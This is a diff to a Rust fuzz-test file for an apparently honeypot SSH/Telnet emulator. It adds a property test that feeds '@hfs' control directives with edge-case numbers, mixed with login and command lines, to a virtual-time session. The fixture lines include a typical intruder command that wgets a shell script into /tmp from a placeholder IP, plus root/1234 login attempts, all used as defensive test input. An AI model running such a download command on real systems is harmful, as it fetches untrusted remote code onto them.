@@ -12,17 +12,22 @@
 //! * URI-bearing payloads → `extract_uris`
 //! * mutated snapshot bytes → `Snapshot::read_from`, which must reject
 //!   every corruption with a typed `SnapshotError`, never a panic
+//! * `@hfs` control directives mixed with login and command lines → a
+//!   virtual-time `SessionConn`, which must never panic and must yield at
+//!   most one record
 //!
 //! A checked-in corpus of real Cowrie-style command lines
 //! (`tests/scenarios/corpus_commands.txt`) seeds the shell surfaces with
 //! known-interesting inputs on top of the generated ones.
 
-use std::sync::OnceLock;
+use std::sync::{Arc, OnceLock};
 
 use honeyfarm::farm::Snapshot;
+use honeyfarm::geo::Ip4;
 use honeyfarm::prelude::*;
 use honeyfarm::proto::ssh_ident::SshIdent;
 use honeyfarm::proto::telnet::{LineAssembler, TelnetDecoder, TelnetEvent};
+use honeyfarm::proto::Protocol;
 use honeyfarm::shell::{
     extract_uris, split_statements, ShellSession, SyntheticFetcher, SystemProfile,
 };
@@ -30,6 +35,7 @@ use honeyfarm::testkit::{
     command_line, render_statements, snapshot_mutation, ssh_ident_line, telnet_stream,
     uri_command_line,
 };
+use honeyfarm::wire::{ConnParams, FarmStats, SessionConn, Timing};
 use proptest::prelude::*;
 
 /// A small but real snapshot, serialized once and mutated per case.
@@ -62,6 +68,51 @@ fn normalize(events: Vec<TelnetEvent>) -> Vec<TelnetEvent> {
 
 fn shell() -> ShellSession {
     ShellSession::new(SystemProfile::default(), Box::new(SyntheticFetcher))
+}
+
+/// The `@hfs` arguments the control-channel fuzz draws from: the edges of a
+/// day and of `u32`, a value past `u32`, a negative number and junk.
+const HFS_NUMBERS: [&str; 9] = [
+    "0",
+    "59",
+    "60",
+    "86399",
+    "86400",
+    "4294967295",
+    "1099511627776",
+    "-1",
+    "9x",
+];
+
+/// The login and command lines the control directives are mixed with.
+const SESSION_LINES: [&str; 8] = [
+    "SSH-2.0-Go",
+    "USER root",
+    "PASS 1234",
+    "root",
+    "1234",
+    "uname -a",
+    "cd /tmp && wget http://198.51.100.1/x.sh",
+    "EXIT",
+];
+
+/// One script line: a session line when `kind` is 0, otherwise an `@hfs`
+/// directive (`verb` 6 and 7 are verbs the channel does not know).
+fn hfs_script_line((kind, verb, a, b): (u8, usize, usize, usize)) -> String {
+    let (n, m) = (HFS_NUMBERS[a], HFS_NUMBERS[b]);
+    if kind == 0 {
+        return SESSION_LINES[verb].to_string();
+    }
+    match verb {
+        0 => format!("@hfs start {n} {m}"),
+        1 => format!("@hfs client 203.0.113.{n} {m}"),
+        2 => format!("@hfs fetcher {}", ["synthetic", "null", n][b % 3]),
+        3 => format!("@hfs think {n}"),
+        4 => format!("@hfs idle {n}"),
+        5 => format!("@hfs transfer {n}"),
+        6 => format!("@hfs {n} {m}"),
+        _ => format!("@hfs reboot {n}"),
+    }
 }
 
 proptest! {
@@ -154,6 +205,45 @@ proptest! {
         let mut sh = shell();
         let _ = sh.execute(&line);
         let _ = sh.execute(&chaser);
+    }
+
+    /// The `@hfs` control channel is total: a virtual-time connection fed
+    /// directives over edge-case numbers and unknown verbs, before and after
+    /// its first event and cut into arbitrary reads, never panics and
+    /// yields at most one record.
+    #[test]
+    fn hfs_control_lines_total(
+        telnet in prop::bool::ANY,
+        lines in prop::collection::vec((0u8..3, 0usize..8, 0usize..9, 0usize..9), 0..24),
+        mut cuts in prop::collection::vec(any::<usize>(), 0..6),
+    ) {
+        let script: String = lines.into_iter().map(|l| hfs_script_line(l) + "\n").collect();
+        let bytes = script.as_bytes();
+        for c in &mut cuts {
+            *c %= bytes.len() + 1;
+        }
+        cuts.sort_unstable();
+        let (mut conn, _) = SessionConn::new(ConnParams {
+            honeypot: 0,
+            protocol: if telnet { Protocol::Telnet } else { Protocol::Ssh },
+            config: Arc::new(HoneypotConfig::default()),
+            timing: Timing::Virtual,
+            stats: FarmStats::new(),
+            peer_ip: Ip4::new(198, 51, 100, 7),
+            peer_port: 40000,
+        });
+        let mut out = Vec::new();
+        let mut records = 0;
+        let mut start = 0;
+        for end in cuts.into_iter().chain([bytes.len()]) {
+            records += usize::from(conn.on_input(&bytes[start..end], &mut out).is_some());
+            start = end;
+        }
+        prop_assert!(records <= 1, "{records} records from {script:?}");
+        prop_assert_eq!(conn.finished(), records == 1);
+        if !conn.finished() {
+            let _ = conn.on_eof();
+        }
     }
 
     /// Every snapshot corruption is rejected with a typed `SnapshotError` —
